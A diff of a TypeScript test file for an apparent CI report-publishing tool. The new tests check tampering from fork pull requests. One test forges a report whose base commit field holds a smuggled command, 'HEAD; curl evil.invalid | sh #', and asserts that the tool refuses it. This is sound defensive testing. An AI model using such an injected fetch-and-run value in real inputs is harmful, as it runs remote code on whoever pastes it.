@@ -4,12 +4,13 @@ import { describe, expect, test } from '@jest/globals';
 import type { Report } from '../../src/core/report.ts';
 import { TOKEN, WORKFLOW_PERMISSIONS } from '../../src/demo/walk.ts';
 import { type Attack, sceneOf } from './attack.factory.ts';
-import { DECISION, json, WORKFLOW } from './packet.factory.ts';
+import { DECISION, json, SEAL, SEALED, seal, WORKFLOW } from './packet.factory.ts';
 import { reportOf, type Scene, type Seen, type Step } from './scene.factory.ts';
 
 const RUN = 41;
 const NUMBER = 8;
-const DRIFT: Attack = { head: { 'packet/decision.md': DECISION.replace('Hold', 'Execute') } };
+const EDITED = DECISION.replace('Hold', 'Execute');
+const DRIFT: Attack = { head: { 'packet/decision.md': EDITED } };
 const READ_ONLY = { contents: 'read', 'pull-requests': 'read', actions: 'read' } as const;
 
 /** The pull request of a fork, whose token only reads. */
@@ -237,6 +238,49 @@ describe('a report that is not believed', () => {
     expect(statuses(scene)).toEqual([]);
   });
 
+  test('another head is pushed while the changed files are read', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const { headSha: sha, baseSha } = scene.request;
+    const { state } = scene.github;
+    state.changedFiles.set(NUMBER, [{ filename: WORKFLOW, status: 'modified', sha }]);
+    const path = new RegExp(`/pulls/${NUMBER}/files$`);
+    scene.github.fail({ path, with: { delayMs: 700 } });
+    const publishing = publish(scene, made);
+    await scene.asked('GET', path);
+    state.changedFiles.set(NUMBER, []);
+    state.updatePullRequest(NUMBER, { headSha: baseSha });
+    expectRefused(scene, await publishing, `#${NUMBER} has changed`);
+  });
+
+  test('a commit that carries a command into what a reviewer pastes', async () => {
+    await using scene = await fork({
+      head: {
+        'packet/decision.md': EDITED,
+        [SEAL]: seal({ ...SEALED, 'decision.md': EDITED }, { closed: ['evidence/**'] }),
+      },
+    });
+    const made = await unprivileged(scene);
+    expect(reportOf(made).reseals).toHaveLength(1);
+    const evil = 'HEAD; curl evil.invalid | sh #';
+    const bad = (report: Report) => ({ ...report, checked: { ...report.checked, base: evil } });
+    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
+    expectRefused(scene, seen, "which is no commit's id");
+    const shownText = [...scene.github.state.comments.map(({ body }) => body), seen.summary];
+    expect(shownText.join()).not.toContain('checkout HEAD;');
+  });
+
+  test('a run without a number, which could not tell its own reports', async () => {
+    await using scene = await sceneOf(PASSING);
+    const made = await scene.run({ runId: 3, inputs: { comment: 'never', status: 'false' } });
+    const reports = scene.sandbox.path('numberless');
+    mkdirSync(reports);
+    writeFileSync(join(reports, 'r.json'), made.reportText);
+    const inputs = { command: 'publish', reports, status: 'false' };
+    const seen = await scene.run({ inputs, env: { GITHUB_RUN_ID: '' }, unaudited: true });
+    expect(problems(seen).join()).toContain('GITHUB_RUN_ID');
+  });
+
   const CHANGES: Readonly<Record<string, readonly [(report: Report) => object, string]>> = {
     'another run': [(report) => ({ ...report, run: { ...report.run, id: '40' } }), 'of the run 40'],
     'another attempt': [
@@ -353,7 +397,7 @@ describe('shards of one run', () => {
     await using scene = await sceneOf(DRIFT);
     const one = await scene.run({ inputs: { comment: 'never', status: 'false' } });
     const reports = await shards(scene);
-    expect(statuses(scene)).toEqual([]);
+    expect(statuses(scene).map(({ state }) => state)).toEqual(['pending']);
     const workspace = scene.sandbox.path('empty');
     mkdirSync(workspace);
     const inputs = { command: 'publish', reports };
